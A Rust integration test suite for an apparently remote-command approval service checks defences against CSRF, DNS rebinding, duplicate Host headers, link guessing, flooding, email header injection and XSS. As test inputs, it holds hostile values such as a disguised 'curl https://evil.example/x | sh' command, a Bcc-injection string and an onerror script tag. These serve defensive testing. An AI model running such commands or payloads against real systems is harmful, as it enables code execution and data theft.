//! Abuse the approval must withstand: cross-site and scripted POSTs, link
//! guessing, flooding the recipients, an unexpected request, concurrent
//! clicks by the hundred, and a computer vanishing mid-request. Each test
//! fails without the protection it names.

use doorman_client::ConnectError;
use doorman_core::RequestState;
use doorman_server::Limits;
use doorman_test_support::World;
use doorman_test_support::world::extract_nonce;
use reqwest::StatusCode;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cross_site_posts_cannot_decide() {
    let world = World::start().await;
    let connecting = world.connect(&["true"], "");
    let id = connecting.request_id().await;
    let mails = world.smtp.wait_for(2).await;
    let link = mails[0].link();
    let nonce = extract_nonce(&world.page(&link).await.1).unwrap();
    let form = [("decision", "allow"), ("nonce", nonce.as_str())];
    for (header, value) in [
        ("sec-fetch-site", "cross-site"),
        ("sec-fetch-site", "same-site"),
        ("origin", "https://evil.example"),
        ("origin", "null"),
    ] {
        let response = world
            .http
            .post(&link)
            .header(header, value)
            .form(&form)
            .send()
            .await
            .unwrap();
        assert_eq!(
            response.status(),
            StatusCode::FORBIDDEN,
            "{header}: {value}"
        );
    }
    // A browser that says "same-origin" must also send our own Origin.
    let response = world
        .http
        .post(&link)
        .header("sec-fetch-site", "same-origin")
        .header("origin", "https://evil.example")
        .form(&form)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
    assert_eq!(world.state_of(&id).await, RequestState::Pending);
    // The page's own form, as a browser sends it, still works.
    let response = world
        .http
        .post(&link)
        .header("sec-fetch-site", "same-origin")
        .header("origin", world.url.as_str())
        .form(&form)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    assert_eq!(world.state_of(&id).await, RequestState::Allowed);
    assert_eq!(connecting.finish().await, Ok(0));
}

/// A page on another name that resolves to the server (DNS rebinding)
/// reaches nothing: not the outbox, not a link, not a decision.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_for_another_host_name_is_misdirected() {
    let world = World::start().await;
    let connecting = world.connect(&["true"], "");
    let id = connecting.request_id().await;
    let link = world.smtp.wait_for(2).await[0].link();
    let nonce = extract_nonce(&world.page(&link).await.1).unwrap();
    let outbox = format!("{}/outbox", world.url);
    for url in [&outbox, &link] {
        let response = world
            .http
            .get(url)
            .header("host", "evil.example")
            .header("sec-fetch-site", "same-origin")
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::MISDIRECTED_REQUEST, "{url}");
    }
    let response = world
        .http
        .post(&link)
        .header("host", "evil.example:80")
        .header("sec-fetch-site", "same-origin")
        .header("origin", "http://evil.example")
        .form(&[("decision", "allow"), ("nonce", nonce.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::MISDIRECTED_REQUEST);
    assert_eq!(world.state_of(&id).await, RequestState::Pending);
    // Loopback names still serve a browser on this host.
    let response = world
        .http
        .get(&outbox)
        .header("host", "localhost")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    drop(connecting);
}

/// Sends a `GET` of `path` with these header lines on a connection of its
/// own, as no HTTP client library would; the whole response.
async fn raw_get(world: &World, path: &str, headers: &str) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::TcpStream::connect(world.address).await.unwrap();
    let request = format!("GET {path} HTTP/1.1\r\n{headers}Connection: close\r\n\r\n");
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut response = String::new();
    stream.read_to_string(&mut response).await.unwrap();
    response
}

/// A request that names two hosts is refused on every path: a proxy in
/// front and this server could each read another one of them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_with_two_host_headers_is_refused() {
    let world = World::start().await;
    let public = world.address.to_string();
    for path in ["/outbox", "/console", doorman_wire::CONNECT_PATH] {
        for hosts in [
            format!("Host: {public}\r\nHost: evil.example\r\n"),
            format!("Host: {public}\r\nHost: {public}\r\n"),
        ] {
            let response = raw_get(&world, path, &hosts).await;
            assert!(response.starts_with("HTTP/1.1 400"), "{path}: {response}");
            assert!(response.contains("a request names one Host"), "{response}");
        }
    }
    // One is served as before.
    let response = raw_get(&world, "/outbox", &format!("Host: {public}\r\n")).await;
    assert!(response.starts_with("HTTP/1.1 200"), "{response}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guessing_links_is_limited_per_address_and_good_links_still_work() {
    let world = World::start().await;
    let connecting = world.connect(&["true"], "");
    connecting.event("pending").await;
    let mails = world.smtp.wait_for(2).await;
    for i in 0..30 {
        let (status, _) = world.page(&format!("{}/a/guess{i:040}", world.url)).await;
        assert_eq!(status, StatusCode::NOT_FOUND);
    }
    let (status, _) = world
        .page(&format!("{}/a/guess-after-limit", world.url))
        .await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    let (_, page) = world.page(&format!("{}/a/guess-again", world.url)).await;
    assert!(page.contains("Too many invalid links"), "{page}");
    // A valid link from the same address (a colleague behind the same
    // NAT) still works: only failures are limited.
    let (status, page) = world.page(&mails[0].link()).await;
    assert_eq!(status, StatusCode::OK, "{page}");
    drop(connecting);
}

/// Issue 25: wrong enrolment links count with wrong approval links, so
/// that neither is a free way to guess.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guessing_enrolment_links_counts_like_guessing_approval_links() {
    let world = World::start().await;
    for i in 0..20 {
        let (status, _) = world.page(&format!("{}/e/guess{i:040}", world.url)).await;
        assert_eq!(status, StatusCode::NOT_FOUND);
    }
    // A wrong form posted to a guessed enrolment link counts too.
    let posted = world
        .http
        .post(format!("{}/e/guess-posted", world.url))
        .form(&[("nonce", "x"), ("credential", "{}")])
        .send()
        .await
        .unwrap();
    assert_eq!(posted.status(), StatusCode::NOT_FOUND);
    for i in 0..9 {
        let (status, _) = world.page(&format!("{}/a/guess{i:040}", world.url)).await;
        assert_eq!(status, StatusCode::NOT_FOUND);
    }
    let (status, page) = world
        .page(&format!("{}/e/guess-after-limit", world.url))
        .await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{page}");
    assert!(page.contains("Too many invalid links"), "{page}");
    let (status, _) = world
        .page(&format!("{}/a/guess-after-limit", world.url))
        .await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_operator_may_not_flood_the_recipients() {
    let limits = Limits {
        max_pending_per_operator: 2,
        max_requests_per_hour: 3,
        block_minutes: 20,
    };
    let world = World::builder()
        .recipients(&["it@example.com"])
        .limits(limits)
        .start()
        .await;
    let first = world.connect(&["true"], "1");
    first.event("pending").await;
    let second = world.connect(&["true"], "2");
    second.event("pending").await;
    let third = world.connect(&["true"], "3").finish().await;
    let Err(ConnectError::Limited(message)) = &third else {
        panic!("expected a limit, got {third:?}")
    };
    assert!(
        message.contains("2 requests waiting") && message.contains("limit 2"),
        "{message}"
    );
    assert_eq!(third.as_ref().unwrap_err().exit_code(), 247);
    assert_eq!(
        world.smtp.wait_for(2).await.len(),
        2,
        "no email for the refused request"
    );

    // Settle both; the hourly limit per operator and computer is next.
    let mails = world.smtp.mails();
    world.click(&mails[0].link(), "deny").await;
    world.click(&mails[1].link(), "deny").await;
    assert!(matches!(
        first.finish().await,
        Err(ConnectError::Denied { .. })
    ));
    assert!(matches!(
        second.finish().await,
        Err(ConnectError::Denied { .. })
    ));
    let fourth = world.connect(&["true"], "4");
    fourth.event("pending").await;
    let fifth = world.connect(&["true"], "5").finish().await;
    let Err(ConnectError::Limited(message)) = &fifth else {
        panic!("expected a limit, got {fifth:?}")
    };
    assert!(
        message.contains("you asked computer \"office-pc\" 3 times in the last hour"),
        "{message}"
    );
    // Each refusal is counted (in one row a minute).
    let refusals: i64 = world
        .audit_events()
        .await
        .into_iter()
        .filter(|e| e.event == "refused_limit")
        .map(|e| e.count)
        .sum();
    assert_eq!(refusals, 2, "each refusal is audited");
    drop(fourth);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn i_did_not_expect_this_denies_and_blocks_the_operator() {
    let world = World::builder()
        .recipients(&["owner@example.com"])
        .start()
        .await;
    let connecting = world.connect(&["true"], "surprise");
    let id = connecting.request_id().await;
    let mails = world.smtp.wait_for(1).await;
    let page = world.page(&mails[0].link()).await.1;
    assert!(page.contains(
        "<button name=\"decision\" value=\"report\" class=\"report\">I did not expect this</button>"
    ));
    world.click(&mails[0].link(), "report").await;
    assert!(matches!(
        connecting.finish().await,
        Err(ConnectError::Denied { .. })
    ));
    assert_eq!(world.state_of(&id).await, RequestState::Denied);
    let reported = world
        .audit_events()
        .await
        .into_iter()
        .find(|e| e.event == "reported")
        .expect("audited");
    assert_eq!(reported.actor.as_deref(), Some("owner@example.com"));
    assert!(
        reported
            .detail
            .unwrap()
            .contains("blocked from office-pc for 20 minutes")
    );

    let again = world.connect(&["true"], "again").finish().await;
    let Err(ConnectError::Limited(message)) = &again else {
        panic!("expected the block, got {again:?}")
    };
    assert!(
        message.contains("did not expect your last request"),
        "{message}"
    );
    assert_eq!(world.emails_queued().await, 1, "no email while blocked");

    // An administrator lifts the block; the operator may ask again.
    let now = world.clock().now_millis();
    let blocks = world.broker.store().blocks(now).await.unwrap();
    assert_eq!(blocks.len(), 1);
    assert_eq!(
        (blocks[0].operator.as_str(), blocks[0].computer.as_str()),
        ("alice", "office-pc")
    );
    assert_eq!(blocks[0].reported_by, "owner@example.com");
    world
        .broker
        .store()
        .lift_block("alice", "office-pc", now)
        .await
        .unwrap();
    assert!(world.broker.store().blocks(now).await.unwrap().is_empty());
    let asking = world.connect(&["true"], "after the lift");
    asking.event("pending").await;
    world.wait_for_audit("block_lifted").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hundred_simultaneous_clicks_make_one_decision_and_one_session() {
    let world = World::start().await;
    let connecting = world.connect(&["sh", "-c", "echo once"], "");
    let id = connecting.request_id().await;
    let mails = world.smtp.wait_for(2).await;
    let links = [mails[0].link(), mails[1].link()];
    let nonces = [
        extract_nonce(&world.page(&links[0]).await.1).unwrap(),
        extract_nonce(&world.page(&links[1]).await.1).unwrap(),
    ];
    let posts = (0..100).map(|i| {
        let link = links[i % 2].clone();
        let nonce = nonces[i % 2].clone();
        let http = world.http.clone();
        tokio::spawn(async move {
            let decision = if i % 3 == 0 { "deny" } else { "allow" };
            http.post(&link)
                .form(&[("decision", decision), ("nonce", nonce.as_str())])
                .send()
                .await
                .unwrap()
                .status()
        })
    });
    for post in posts.collect::<Vec<_>>() {
        assert_eq!(post.await.unwrap(), StatusCode::SEE_OTHER);
    }
    let decisions = world
        .audit_events()
        .await
        .into_iter()
        .filter(|e| {
            e.request_id.as_deref() == Some(id.as_str())
                && (e.event == "allowed" || e.event == "denied")
        })
        .count();
    assert_eq!(decisions, 1);
    let stdout = connecting.stdout.clone();
    let result = connecting.finish().await;
    let mut world = world;
    world.stop_server().await;
    let sessions = world
        .audit_events()
        .await
        .into_iter()
        .filter(|e| e.event == "session_started")
        .count();
    match world.state_of(&id).await {
        RequestState::Allowed => {
            assert_eq!(result, Ok(0));
            assert_eq!(stdout.text(), "once\n");
            assert_eq!(sessions, 1);
        }
        RequestState::Denied => assert_eq!(sessions, 0),
        other => panic!("unexpected {other}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_computer_going_offline_cancels_its_pending_request() {
    let mut world = World::start().await;
    let connecting = world.connect(&["true"], "");
    let id = connecting.request_id().await;
    let mails = world.smtp.wait_for(2).await;
    world.stop_agent().await;
    let result = connecting.finish().await;
    assert_eq!(
        result,
        Err(ConnectError::WentOffline(
            "computer \"office-pc\" went offline while waiting for authorization".into()
        ))
    );
    assert_eq!(result.unwrap_err().exit_code(), 243);
    assert_eq!(world.state_of(&id).await, RequestState::Cancelled);
    let (_, page) = world.page(&mails[0].link()).await;
    assert!(page.contains("Cancelled"), "{page}");
    assert!(!page.contains("<form"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn operator_text_cannot_break_headers_or_pages() {
    let world = World::builder()
        .recipients(&["it@example.com"])
        .start()
        .await;
    for reason in [
        "line\r\nBcc: victim@example.com",
        "nul\0byte",
        &"x".repeat(501),
    ] {
        let result = world.connect(&["true"], reason).finish().await;
        assert!(
            matches!(result, Err(ConnectError::InvalidRequest(_))),
            "{reason:?}: {result:?}"
        );
    }
    assert_eq!(world.emails_queued().await, 0);
    let long = "é".repeat(400);
    let connecting = world.connect(&["true"], &format!("<img src=x onerror=alert(1)> {long}"));
    connecting.event("pending").await;
    let mail = &world.smtp.wait_for(1).await[0];
    assert!(!String::from_utf8_lossy(&mail.data).contains("Bcc"));
    let (_, page) = world.page(&mail.link()).await;
    assert!(page.contains("&#60;img src=x onerror=alert(1)&#62;"));
    assert!(!page.contains("<img"));
    drop(connecting);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_command_cannot_hide_its_tail_from_the_approver() {
    let world = World::builder()
        .recipients(&["it@example.com"])
        .start()
        .await;
    let padding = "\n".repeat(30);
    let disguise = format!("backup done\nBcc: boss@example.com\n<b>safe</b>{padding}");
    let command = [
        "echo",
        disguise.as_str(),
        ";",
        "curl https://evil.example/x | sh",
    ];
    let connecting = world.connect(&command, "");
    let id = connecting.request_id().await;
    let shown = concat!(
        r"run echo $'backup done\nBcc: boss@example.com\n<b>safe</b>",
        r"\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n'",
        r" ';' 'curl https://evil.example/x | sh'"
    );
    let mail = &world.smtp.wait_for(1).await[0];
    let text = mail.text();
    let wants = text
        .lines()
        .find(|line| line.starts_with("Wants to:"))
        .expect("a Wants to line");
    assert_eq!(wants, format!("Wants to:   {shown}"), "{text}");
    assert!(!text.lines().any(|line| line.starts_with("Bcc")), "{text}");
    assert!(mail.header("bcc").is_none());
    let (_, page) = world.page(&mail.link()).await;
    let escaped = shown
        .replace('<', "&#60;")
        .replace('>', "&#62;")
        .replace('\'', "&#39;");
    assert!(page.contains(&escaped), "{page}");
    assert!(!page.contains("<b>safe"), "{page}");
    let events = world.audit_events().await;
    let requested = events
        .iter()
        .find(|e| e.request_id.as_deref() == Some(id.as_str()));
    let detail = requested.and_then(|e| e.detail.clone()).unwrap_or_default();
    assert!(detail.contains(shown), "{detail}");
    drop(connecting);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_operator_vanishing_cancels_its_request_and_the_links_say_so() {
    let world = World::start().await;
    let connecting = world.connect(&["true"], "");
    let id = connecting.request_id().await;
    let mails = world.smtp.wait_for(2).await;
    // From here on this test is the only one waiting for the outcome.
    let mut watch = world.broker.waiters().watch(&id);
    connecting.kill();
    let settled = async {
        while world.state_of(&id).await == RequestState::Pending {
            watch.receiver.changed().await.expect("the request settles");
        }
    };
    tokio::time::timeout(std::time::Duration::from_secs(20), settled)
        .await
        .expect("the request is cancelled within 20 s of its operator vanishing");
    assert_eq!(world.state_of(&id).await, RequestState::Cancelled);
    let (_, page) = world.page(&mails[0].link()).await;
    assert!(page.contains("Cancelled by the operator"), "{page}");
    assert!(!page.contains("<form"));
}

/// Issue 29: an end-to-end hello the size of a frame would make an offer
/// too large for the agent's connection (and drop the computer); the
/// server refuses it before any offer, and the computer stays.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_oversized_end_to_end_hello_is_refused_before_the_offer() {
    use doorman_test_support::raw;
    use doorman_wire::message::{Refusal, ServerToOperator};
    let world = World::builder().without_email_authorization().start().await;
    let mut ask = raw::connect(
        "office-pc",
        "",
        serde_json::json!({"kind": "command", "argv": ["true"]}),
    );
    ask["e2e"] = serde_json::json!({"version": 1, "ephemeral": "A".repeat(250_000)});
    let answer = raw::first_answer(&world.url, &world.operator_token, &ask).await;
    let ServerToOperator::Refused { reason, message } = answer else {
        panic!("{answer:?}");
    };
    assert_eq!(reason, Refusal::InvalidRequest);
    assert!(message.contains("end-to-end hello"), "{message}");
    // The computer is still there.
    assert_eq!(world.connect(&["true"], "").finish().await, Ok(0));
}
